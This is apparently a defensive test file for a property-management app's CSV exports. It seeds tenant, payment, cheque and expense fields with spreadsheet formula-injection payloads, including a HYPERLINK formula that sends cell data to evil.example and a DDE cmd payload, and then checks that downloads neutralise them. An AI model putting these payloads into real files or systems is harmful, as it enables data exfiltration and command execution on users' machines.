import Papa from 'papaparse';
import { afterAll, expect, test } from 'vitest';
import { openTestSite, PASSWORD } from '#test/site.ts';

const site = await openTestSite();
afterAll(site.close);
const admin = await site.admin();

/** Cells that Excel, LibreOffice, Numbers or Google Sheets would execute, or send elsewhere. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/"&A1)',
  '=cmd|" /C calc"!A0',
  '+1+cmd',
  '-2+3',
  '@SUM(1)',
  '  =1+1',
  "'=1+1",
  '|calc',
  '%0A=1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'plain","=1+1',
  'plain\r\n=1+1',
];

/** A building in which every text that a person can enter is a formula. */
async function hostileBuilding() {
  for (const [n, formula] of FORMULAS.entries()) {
    const line = formula.replace(/[\r\n]+/g, ' ').trim();
    const flat = await site.addApartment({
      block: line.slice(0, 20).trim(),
      apartmentNo: `${line.slice(0, 16).trim()} ${n}`,
    });
    const { block, apartmentNo } = flat;
    const tenancy = {
      block,
      apartmentNo,
      tenantName: line,
      rent: 10_000,
      startsOn: '2026-01-01',
      billedFrom: '2026-01',
    };
    const { body, status } = await admin.post<{ _id: string }>('/api/residents', tenancy);
    expect([formula, status]).toEqual([formula, 201]);
    const money = {
      agreementId: body._id,
      amount: 100,
      method: 'Cash',
      receivedOn: '2026-03-14',
      requestKey: `form no ${n}`,
    };
    const { body: paid } = await admin.post<{ _id: string }>('/api/payments/record', money);
    expect((await admin.put(`/api/payments/reverse/${paid._id}`, { reason: formula })).status).toBe(200);
    const {
      method: __,
      receivedOn: takenOn,
      ...cheque
    } = { ...money, bank: line.slice(0, 60), requestKey: `cheque ${n}` };
    const taken = { ...cheque, takenOn, dated: '2026-04-01', number: `${10_000 + n}` };
    expect([line, (await admin.post('/api/cheques', taken)).status]).toEqual([line, 201]);
    const { method: _, ...tax } = { ...money, amount: 50, requestKey: `tax no ${n}` };
    const certified = { ...tax, certificate: line.slice(0, 64), certifiedOn: '2026-03-14' };
    expect((await admin.post('/api/withheld-tax', certified)).status).toBe(201);
    const names = { name: line.slice(0, 60), nameBangla: formula.slice(0, 60), taxLine: 'none' };
    const { body: own } = await admin.post<{ code: string }>('/api/expense-categories', names);
    const cost = { category: own.code, day: '2026-03-14', payee: line, amount: 10, paidFrom: 'Owner', note: formula };
    expect((await admin.post('/api/expenses', { ...cost, requestKey: `cost no ${n}` })).status).toBe(201);
    expect(
      (await site.anonymous().post('/api/identity/sign-in', { email: 'x@example.test', password: formula })).status,
    ).toBe(401);
  }
}

const isCsv = (answer: unknown) =>
  typeof answer === 'object' && answer !== null && 'mediaType' in answer && answer.mediaType === 'text/csv';
const downloads = site.endpoints
  .filter(({ responses }) => Object.values(responses).some(isCsv))
  .map(({ path }) => path);
const queryOf = (path: string) => (path === '/api/entries.csv' ? '?figure=spent&from=2026-01-01&to=2026-12-31' : '');
const countDownloads = () => site.count(`audit_events where kind = 'list_downloaded'`);

test('no cell of any download is run by a spreadsheet, none breaks out of its row, and its name is ours', async () => {
  await hostileBuilding();
  expect(downloads.length).toBeGreaterThanOrEqual(6);
  for (const path of downloads) {
    const { status, body, headers } = await admin.get<string>(path + queryOf(path));
    expect([path, status]).toEqual([path, 200]);
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z0-9-]+\.csv"$/);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const [titles = [], ...rows] = Papa.parse<string[]>(body.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
    expect([path, rows.length >= FORMULAS.length]).toEqual([path, true]);
    for (const row of rows) {
      expect([path, row.length]).toEqual([path, titles.length]);
      const run = row.filter((cell) => /^\s*[=+\-@|%＝＋－＠]/.test(cell) && Number.isNaN(Number(cell)));
      expect([path, run]).toEqual([path, []]);
    }
  }
});

test('each download leaves one event, and none where a page shows its address as a picture', async () => {
  for (const path of downloads) {
    const before = await countDownloads();
    for (const purpose of ['image', 'iframe', 'script']) {
      const { status } = await admin.get(path + queryOf(path), { 'sec-fetch-dest': purpose });
      expect([path, purpose, status]).toEqual([path, purpose, 403]);
    }
    expect([path, await countDownloads()]).toEqual([path, before]);
    for (const purpose of ['document', 'empty'])
      expect((await admin.get(path + queryOf(path), { 'sec-fetch-dest': purpose })).status).toBe(200);
    expect([path, await countDownloads()]).toEqual([path, before + 2]);
  }
});

test('nobody’s photo has an address of this site, which each reader’s browser would ask for', async () => {
  const eve = await site.signUp('eve@example.test');
  for (const photo of ['http://onebuilding.test/api/residents.csv', 'https://ONEBUILDING.test:8443/api/ledger.csv']) {
    const refused = { status: 400, body: { code: 'invalid', fields: { photo: expect.stringMatching(/elsewhere/) } } };
    expect(await eve.post('/api/register', { email: eve.email, photo })).toMatchObject(refused);
    const person = { name: 'Mallory', email: 'mallory@example.test', password: PASSWORD, photo };
    expect(await site.anonymous().post('/api/identity/sign-up', person)).toMatchObject(refused);
  }
});
